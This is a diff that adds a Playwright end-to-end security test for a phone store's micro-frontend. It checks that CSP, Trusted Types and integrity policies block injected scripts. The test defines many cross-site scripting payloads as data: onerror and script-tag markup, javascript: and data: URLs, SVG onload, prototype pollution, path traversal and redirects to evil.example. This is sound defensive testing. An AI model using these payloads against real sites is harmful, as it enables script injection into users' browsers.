@@ -1,0 +1,263 @@
+import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import type { OpenSite } from '@gadgetry/tools/serve-site';
+import { root } from '@gadgetry/tools/workspace';
+import type { Page, Route } from '@playwright/test';
+import { type Entry, listProduct } from '../support/catalogue';
+import { openOwnSite } from '../support/own-site';
+import { expect, goTo, storeBefore, test as storeTest } from '../support/store';
+
+/*
+ * The drill: somebody can write to the remotes' origins, to the data and to what browsers have stored, and can hand out
+ * links, but has no key and can't write to the page's own origin (`.github/threat-model.md`). Whatever is tried, nothing
+ * of theirs runs, and the store goes on selling from what is sound. What they try at the registry is tested in
+ * `shell/compose/verbs/key-verbs.test.ts`.
+ */
+
+const EVIL = 'globalThis.pwned = true;';
+const MARKUP = '"><img src=x onerror="pwned=true"><script>pwned=true</script>';
+const PRODUCT = 'apple-iphone-14-512gb-midnight';
+
+const open = { 'Access-Control-Allow-Origin': '*' };
+const evilScript = (route: Route) =>
+  route.fulfill({ contentType: 'text/javascript', body: EVIL, headers: open });
+
+const test = storeTest.extend<object, { site: OpenSite }>({
+  site: [
+    // biome-ignore lint/correctness/noEmptyPattern: Playwright asks for a pattern where a fixture uses no other one
+    async ({}, use) => {
+      const folder = mkdtempSync(join(tmpdir(), 'drill-'));
+      const environment = JSON.parse(readFileSync(join(root, 'shell/environments/local.json'), 'utf8'));
+      environment.policy.overrides = 'deny';
+      environment.policy.reports = { url: 'https://reports.example/violations' };
+      writeFileSync(join(folder, 'drill.json'), JSON.stringify(environment));
+      const site = await openOwnSite(undefined, { environment: join(folder, 'drill.json') });
+      await use(site);
+      await site.close();
+      rmSync(folder, { recursive: true });
+    },
+    { scope: 'worker' },
+  ],
+});
+
+test.use({ expectedConsole: { matching: /./ } });
+
+const replaced = (files: RegExp) => (page: Page) => page.route(files, evilScript);
+
+/** Changes every entry of the list and of the details. */
+const inData = (change: Entry) => (page: Page) =>
+  page.route(/\/api\/(products|phones)\.json/, async (route) => {
+    const response = await route.fetch();
+    const entries: Entry[] = await response.json();
+    await route.fulfill({ response, json: entries.map((entry) => ({ ...entry, ...change })) });
+  });
+
+const stored = (value: unknown) => (page: Page) =>
+  page.addInitScript((text) => {
+    for (const area of [localStorage, sessionStorage])
+      for (const key of ['gadgetry:versions', 'gadgetry:overrides', 'gadgetry:standby'])
+        area.setItem(key, text);
+  }, JSON.stringify(value));
+
+/** What is tried, and at which address. */
+const ATTACKS: Readonly<Record<string, [attack: (page: Page) => Promise<unknown>, address?: string]>> = {
+  'another entry in the entry’s place': [replaced(/\/remoteEntry\./)],
+  'another app module': [replaced(/\/app\.[^/]*\.js/)],
+  'another page chunk': [replaced(/\/page-[^/]*\.js/)],
+  'another chunk, at the further try alone': [replaced(/\/page-[^/]*\.js\?attempt/)],
+  'every script of every remote': [replaced(/:\d+\/\d+\.\d+\.\d+\/.*\.js/)],
+  'an entry that leads elsewhere': [
+    async (page) => {
+      await page.route(/\/remoteEntry\./, (route) =>
+        route.fulfill({ status: 302, headers: { ...open, Location: 'https://evil.example/entry.js' } }),
+      );
+      await page.route('https://evil.example/**', evilScript);
+    },
+  ],
+  'a style sheet that hides the price': [
+    (page) =>
+      page.route(/\/page-[^/]*\.css/, (route) =>
+        route.fulfill({ contentType: 'text/css', body: 'body { display: none }', headers: open }),
+      ),
+  ],
+  'a version that storage names, with a hash of its own': [
+    stored({
+      environment: 'local',
+      remotes: { catalog: { version: '6.6.6', base: 'http://localhost:1/' } },
+      versions: { catalog: '6.6.6' },
+    }),
+  ],
+  'markup in the name of a product': [inData({ name: `Apple ${MARKUP}` })],
+  'markup in a description': [
+    inData({ description: [{ title: MARKUP, text: [MARKUP] }] }),
+    `/phones/${PRODUCT}`,
+  ],
+  'code as the address of a picture': [
+    inData({ image: 'javascript:pwned=true', images: ['javascript:pwned=true'] }),
+  ],
+  'a page as a picture': [inData({ image: 'data:text/html,<script>parent.pwned=true</script>' })],
+  'a drawing that carries a script': [
+    (page) =>
+      page.route('**/img/**', (route) =>
+        route.fulfill({
+          contentType: 'image/svg+xml',
+          body: `<svg xmlns="http://www.w3.org/2000/svg" onload="${EVIL}"><script>${EVIL}</script></svg>`,
+        }),
+      ),
+  ],
+  'a way out of the folder as an id': [inData({ itemId: '../../evil', namespaceId: '../evil' })],
+  'what every object inherits from': [
+    (page) =>
+      page.route('**/api/*.json', (route) =>
+        route.fulfill({ contentType: 'application/json', body: '{"__proto__":{"pwned":true},"length":1}' }),
+      ),
+  ],
+  'a script instead of data': [(page) => page.route('**/api/*.json', evilScript)],
+  'markup in the address': [async () => {}, `/phones?sort=${encodeURIComponent(MARKUP)}&page=${MARKUP}`],
+  'code as the address': [async () => {}, '/phones/javascript:pwned=true'],
+};
+
+/** What they would do once something of theirs could reach into the page; each has to throw or to come to nothing. */
+const INSIDE: Readonly<Record<string, string>> = {
+  'a script from a file of an allowed origin': `
+    const script = document.createElement('script');
+    script.src = new URL('/evil.js', __gadgetry.chosen.cart.base).href;
+    document.head.append(script);`,
+  'a script from the folder of a version that the page does not name': `
+    const script = document.createElement('script');
+    script.src = new URL('../6.6.6/evil.js', __gadgetry.chosen.cart.base).href;
+    document.head.append(script);`,
+  'an inline script': `
+    const script = document.createElement('script');
+    script.text = 'pwned = true';
+    document.head.append(script);`,
+  'text as code, by eval': `(0, eval)('pwned = true')`,
+  'text as code, by Function': `new Function('pwned = true')()`,
+  'text as code, by a timer': `setTimeout('pwned = true', 0)`,
+  'text as markup': `document.body.innerHTML = '<img src=x onerror="pwned=true">'`,
+  'text as a document': `document.body.append(new DOMParser().parseFromString('<b onclick="pwned=true">', 'text/html').body)`,
+  'a second policy': `trustedTypes.createPolicy('evil', { createHTML: (text) => text })`,
+  'a second default policy': `trustedTypes.createPolicy('default', { createScriptURL: (text) => text })`,
+  'a handler in an attribute': `
+    const image = document.createElement('img');
+    image.setAttribute('onerror', 'pwned=true');
+    image.src = 'x:';
+    document.body.append(image);`,
+  'another base address': `
+    const base = document.createElement('base');
+    base.href = 'https://evil.example/';
+    document.head.prepend(base);
+    if (document.baseURI.includes('evil')) pwned = true;`,
+};
+
+const isUnharmed = async (page: Page): Promise<void> => {
+  expect(await page.evaluate(() => Reflect.get(globalThis, 'pwned'))).toBeUndefined();
+  expect(await page.evaluate(() => Reflect.get({}, 'pwned'))).toBeUndefined();
+};
+
+test.describe('an attacker stays out [THREAT-01, THREAT-03..05]', () => {
+  for (const [what, [attack, address = '/phones']] of Object.entries(ATTACKS))
+    test(`by ${what}`, async ({ page, site, request }) => {
+      const list: { itemId: string }[] = await (await request.get(`${site.url}api/products.json`)).json();
+      const product = list.find(({ itemId }) => itemId === PRODUCT);
+      await storeBefore(page, { cart: [{ ...product, quantity: 2 }] });
+      await attack(page);
+      await page.goto(`${site.url}#${address}`);
+      const main = page.getByRole('main');
+      await expect(main.getByRole('heading').or(main.getByRole('alert')).first()).toBeVisible();
+      await expect(page.getByRole('banner').getByRole('link', { name: 'Cart, 1 product' })).toBeVisible();
+      await isUnharmed(page);
+
+      // What is sound goes on selling.
+      await page.unrouteAll({ behavior: 'wait' });
+      await goTo(page, '/cart');
+      await expect(async () => {
+        const again = main.getByRole('button', { name: 'Try again' });
+        if (await again.isVisible()) await again.click({ timeout: 1000 });
+        await expect(main.getByRole('button', { name: 'Checkout' })).toBeVisible({ timeout: 3000 });
+      }).toPass();
+      await isUnharmed(page);
+    });
+
+  test('by a frame around the page', async ({ page, site }) => {
+    await page.route('https://evil.example/', (route) =>
+      route.fulfill({ contentType: 'text/html', body: `<iframe title="store" src="${site.url}"></iframe>` }),
+    );
+    await page.goto('https://evil.example/');
+    await expect(page.frameLocator('iframe').getByRole('banner')).toHaveCount(0);
+    expect(page.frames()).toHaveLength(2);
+    await expect.poll(() => page.frames()[1]?.url()).toContain('chrome-error');
+  });
+
+  test('without the operator’s hearing of it', async ({ page, site }) => {
+    const reports: { type: string; body: { effectiveDirective: string; blockedURL: string } }[] = [];
+    await page.route('https://reports.example/violations', async (route) => {
+      if (route.request().method() === 'POST') reports.push(...route.request().postDataJSON());
+      const headers = { ...open, 'Access-Control-Allow-Headers': 'Content-Type' };
+      await route.fulfill({ status: 204, headers });
+    });
+    await page.goto(`${site.url}#/cart`);
+    await expect(page.getByText('Your cart is empty')).toBeVisible();
+    await page.evaluate(() => {
+      const picture = document.createElement('img');
+      picture.src = 'https://evil.example/pixel.png';
+      document.body.append(picture);
+    });
+    await expect
+      .poll(() => reports.map(({ type, body }) => [type, body.effectiveDirective, body.blockedURL]))
+      .toEqual([['csp-violation', 'img-src', 'https://evil.example/pixel.png']]);
+  });
+
+  test('by anything that reaches into the page', async ({ page, site }) => {
+    await page.route(/evil/, evilScript);
+    await page.goto(`${site.url}#/cart`);
+    await expect(page.getByText('Your cart is empty')).toBeVisible();
+    const session = await page.context().newCDPSession(page);
+    for (const [what, code] of Object.entries(INSIDE))
+      await test.step(what, async () => {
+        // The page itself calls the listener; what a debugger evaluates is under no policy.
+        await session.send('Runtime.evaluate', {
+          expression: `addEventListener('attack', () => { ${code} }, { once: true })`,
+        });
+        const answer = await page.evaluate(
+          () =>
+            new Promise<string>((resolve) => {
+              addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
+                resolve(effectiveDirective),
+              );
+              addEventListener('error', ({ message }) => resolve(message));
+              setTimeout(() => dispatchEvent(new Event('attack')));
+            }),
+        );
+        expect(answer, what).not.toBe('');
+        await isUnharmed(page);
+      });
+    await goTo(page, '/phones');
+    await expect(page.getByRole('article').first()).toBeVisible();
+  });
+
+  test('with all of it on: the headers of a page that takes no overrides', async ({ page, site }) => {
+    const answer = await page.goto(site.url);
+    const headers = answer?.headers() ?? {};
+    expect(headers['integrity-policy']).toBe('blocked-destinations=(script), endpoints=(violations)');
+    expect(headers['content-security-policy']).toMatch(/^frame-ancestors 'none'/);
+    const policies = page.locator('meta[http-equiv="Content-Security-Policy"]');
+    await expect(policies).toHaveCount(2);
+    const policy = policies.first();
+    await expect(policy).toHaveAttribute(
+      'content',
+      /require-trusted-types-for 'script'; trusted-types default/,
+    );
+    await expect(policy).toHaveAttribute(
+      'content',
+      /script-src 'strict-dynamic' 'sha256-[^;]*' 'sha384-[^;]*;/,
+    );
+    await expect(policy).not.toHaveAttribute('content', /unsafe|script-src[^;]*http/);
+    await expect(page.getByRole('article').first()).toBeVisible();
+    const product = page.getByRole('article').first();
+    await product.getByRole('button', { name: /^Add to cart/ }).click();
+    await expect(page.getByRole('link', { name: 'Cart, 1 product' })).toBeVisible();
+    expect((await listProduct(page, PRODUCT)).itemId).toBe(PRODUCT);
+  });
+});
